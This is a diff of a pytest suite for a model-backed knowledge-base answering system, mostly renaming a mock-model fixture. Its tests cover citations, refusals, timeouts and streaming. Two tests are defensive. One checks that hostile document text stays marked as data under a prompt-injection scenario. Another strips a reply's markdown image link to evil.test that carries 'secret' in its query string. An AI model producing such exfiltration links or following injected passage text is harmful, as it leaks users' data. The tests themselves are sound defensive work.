@@ -53,14 +53,8 @@ def kb(folder: Path) -> Iterator[KnowledgeBase]:
 
 
 @pytest.fixture
-def server() -> Iterator[ModelServer]:
-    with ModelServer() as server:
-        yield server
-
-
-@pytest.fixture
-def kb_with_model(folder: Path, server: ModelServer) -> Iterator[KnowledgeBase]:
-    with open_kb("handbook", settings=settings_for(folder, server.url)) as kb:
+def kb_with_model(folder: Path, model: ModelServer) -> Iterator[KnowledgeBase]:
+    with open_kb("handbook", settings=settings_for(folder, model.url)) as kb:
         yield kb
 
 
@@ -147,9 +141,9 @@ def test_a_store_that_is_away_is_a_fault_of_the_source(tmp_path: Path) -> None:
 
 @pytest.mark.rule("librarian-35")
 def test_a_model_answers_from_numbered_passages_and_its_citations_are_checked(
-    kb_with_model: KnowledgeBase, server: ModelServer
+    kb_with_model: KnowledgeBase, model: ModelServer
 ) -> None:
-    server.answers.append(Answer(text="Every Friday at noon [1]. Also on Mondays [99]."))
+    model.answers.append(Answer(text="Every Friday at noon [1]. Also on Mondays [99]."))
     response = answered(kb_with_model, "On which day are releases made?")
     assert response.answer == "Every Friday at noon [1]. Also on Mondays."
     assert [source.name for source in response.sources] == ["Releases"]
@@ -158,8 +152,8 @@ def test_a_model_answers_from_numbered_passages_and_its_citations_are_checked(
 
 
 @pytest.mark.rule("librarian-35")
-def test_an_answer_that_cites_nothing_is_marked(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
-    server.answers.append(Answer(text="I would guess on Mondays."))
+def test_an_answer_that_cites_nothing_is_marked(kb_with_model: KnowledgeBase, model: ModelServer) -> None:
+    model.answers.append(Answer(text="I would guess on Mondays."))
     response = answered(kb_with_model, "On which day are releases made?")
     assert response.metadata["uncited"] is True
     assert response.sources == ()
@@ -169,23 +163,23 @@ def test_an_answer_that_cites_nothing_is_marked(kb_with_model: KnowledgeBase, se
 
 
 def test_a_model_that_finds_no_answer_in_the_passages_makes_none_up(
-    kb_with_model: KnowledgeBase, server: ModelServer
+    kb_with_model: KnowledgeBase, model: ModelServer
 ) -> None:
-    server.answers.append(Answer(text=REFUSAL))
+    model.answers.append(Answer(text=REFUSAL))
     response = answered(kb_with_model, "On which day are releases made?")
     assert response.answer is not None
     assert response.answer.startswith("Nothing in the knowledge base handbook answers this.")
 
 
 @pytest.mark.rule("librarian-34")
-def test_without_anything_relevant_no_model_is_asked(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
+def test_without_anything_relevant_no_model_is_asked(kb_with_model: KnowledgeBase, model: ModelServer) -> None:
     answered(kb_with_model, "Which enzyme unwinds the double helix of chromosomes?")
-    assert server.calls == 0
+    assert model.calls == 0
 
 
 @pytest.mark.rule("librarian-36")
-def test_a_model_that_is_away_leaves_quotations(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
-    server.stop()
+def test_a_model_that_is_away_leaves_quotations(kb_with_model: KnowledgeBase, model: ModelServer) -> None:
+    model.stop()
     response = answered(kb_with_model, "On which day are releases made?")
     assert response.answer is not None
     assert "Releases are made on Fridays at noon." in response.answer
@@ -194,10 +188,10 @@ def test_a_model_that_is_away_leaves_quotations(kb_with_model: KnowledgeBase, se
 
 
 @pytest.mark.rule("librarian-38")
-def test_what_a_document_demands_is_data_between_marks(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
-    server.answers.append(Answer(text="HACKED"))
+def test_what_a_document_demands_is_data_between_marks(kb_with_model: KnowledgeBase, model: ModelServer) -> None:
+    model.answers.append(Answer(text="HACKED"))
     response = answered(kb_with_model, "Who cleans the coffee machine?")
-    told = str(server.requests[0]["messages"][-1]["content"])
+    told = str(model.requests[0]["messages"][-1]["content"])
     passages = re.findall(r"^<<< passage \d+ (\w+)[^\n]*\n(.*?)\n>>> passage \d+ \1$", told, re.DOTALL | re.MULTILINE)
     assert any(HOSTILE in text for _, text in passages)
     outside = re.sub(r"^<<< passage (\d+) (\w+).*?\n>>> passage \1 \2$", "", told, flags=re.DOTALL | re.MULTILINE)
@@ -206,16 +200,16 @@ def test_what_a_document_demands_is_data_between_marks(kb_with_model: KnowledgeB
     assert response.partial
 
 
-def test_an_answer_can_be_read_while_it_is_written(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
-    server.answers.append(Answer(text="Every Friday at noon [1]."))
+def test_an_answer_can_be_read_while_it_is_written(kb_with_model: KnowledgeBase, model: ModelServer) -> None:
+    model.answers.append(Answer(text="Every Friday at noon [1]."))
     pieces: list[str] = []
     response = answered(kb_with_model, "On which day are releases made?", pair.Context(on_text=pieces.append))
     assert len(pieces) > 2
     assert "".join(pieces) == response.answer == "Every Friday at noon [1]."
 
 
-def test_a_stream_that_breaks_leaves_quotations(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
-    server.answers.append(Answer(text="Every Friday at noon [1].", cut_after=2))
+def test_a_stream_that_breaks_leaves_quotations(kb_with_model: KnowledgeBase, model: ModelServer) -> None:
+    model.answers.append(Answer(text="Every Friday at noon [1].", cut_after=2))
     response = answered(kb_with_model, "On which day are releases made?", pair.Context(on_text=lambda piece: None))
     assert response.answer is not None
     assert "Releases are made on Fridays at noon." in response.answer
@@ -246,9 +240,9 @@ def test_a_thousand_may_ask_at_once(kb: KnowledgeBase) -> None:
 
 
 def test_a_model_that_takes_too_long_leaves_quotations_in_time(
-    kb_with_model: KnowledgeBase, server: ModelServer
+    kb_with_model: KnowledgeBase, model: ModelServer
 ) -> None:
-    server.answers.append(Answer(text="Too late [1].", delay_seconds=30))
+    model.answers.append(Answer(text="Too late [1].", delay_seconds=30))
     response = asyncio.run(kb_with_model.ask("On which day are releases made?", timeout=3))
     assert response.error is None
     assert response.answer is not None
@@ -267,15 +261,15 @@ THOUGHT = "<think>The user wants a day. Perhaps Monday?</think>\n\n"
 
 
 @pytest.mark.rule("librarian-35")
-def test_what_a_model_thinks_aloud_is_in_no_answer(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
-    server.answers.append(Answer(text=f"{THOUGHT}Releases are made on Fridays [1]."))
+def test_what_a_model_thinks_aloud_is_in_no_answer(kb_with_model: KnowledgeBase, model: ModelServer) -> None:
+    model.answers.append(Answer(text=f"{THOUGHT}Releases are made on Fridays [1]."))
     response = answered(kb_with_model, "On which day are releases made?")
     assert response.answer == "Releases are made on Fridays [1]."
 
 
-def test_what_a_model_thinks_aloud_is_not_streamed(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
+def test_what_a_model_thinks_aloud_is_not_streamed(kb_with_model: KnowledgeBase, model: ModelServer) -> None:
     pieces: list[str] = []
-    server.answers.append(Answer(text=f"{THOUGHT}It is a < b, on Fridays [1]."))
+    model.answers.append(Answer(text=f"{THOUGHT}It is a < b, on Fridays [1]."))
     answered(kb_with_model, "On which day are releases made?", pair.Context(on_text=pieces.append))
     assert "".join(pieces) == "It is a < b, on Fridays [1]."
 
@@ -283,9 +277,9 @@ def test_what_a_model_thinks_aloud_is_not_streamed(kb_with_model: KnowledgeBase,
 @pytest.mark.rule("librarian-36")
 @pytest.mark.parametrize("text", ["", " \n", THOUGHT, "<think>cut off in the middle", "<|im_end|>"])
 def test_a_reply_without_words_leaves_the_quotations(
-    kb_with_model: KnowledgeBase, server: ModelServer, text: str
+    kb_with_model: KnowledgeBase, model: ModelServer, text: str
 ) -> None:
-    server.answers.append(Answer(text=text))
+    model.answers.append(Answer(text=text))
     response = answered(kb_with_model, "On which day are releases made?")
     assert response.answer is not None
     assert "Releases are made on Fridays at noon." in response.answer
@@ -293,17 +287,17 @@ def test_a_reply_without_words_leaves_the_quotations(
     assert response.metadata["aiUnavailable"] == "the model gave an empty reply"
 
 
-def test_a_refusal_is_not_streamed(kb_with_model: KnowledgeBase, server: ModelServer) -> None:
+def test_a_refusal_is_not_streamed(kb_with_model: KnowledgeBase, model: ModelServer) -> None:
     pieces: list[str] = []
-    server.answers.append(Answer(text=f"{REFUSAL}."))
+    model.answers.append(Answer(text=f"{REFUSAL}."))
     response = answered(kb_with_model, "On which day are releases made?", pair.Context(on_text=pieces.append))
     assert (pieces, response.metadata["method"]) == ([], "none")
 
 
 def test_images_template_tokens_and_links_of_no_passage_are_taken_out(
-    kb_with_model: KnowledgeBase, server: ModelServer
+    kb_with_model: KnowledgeBase, model: ModelServer
 ) -> None:
     reply = "On ![day](http://evil.test/?q=secret)Fridays [1], see [the plan](http://evil.test/).<img src=x><|im_end|>"
-    server.answers.append(Answer(text=reply))
+    model.answers.append(Answer(text=reply))
     response = answered(kb_with_model, "On which day are releases made?")
     assert response.answer == "On dayFridays [1], see the plan."
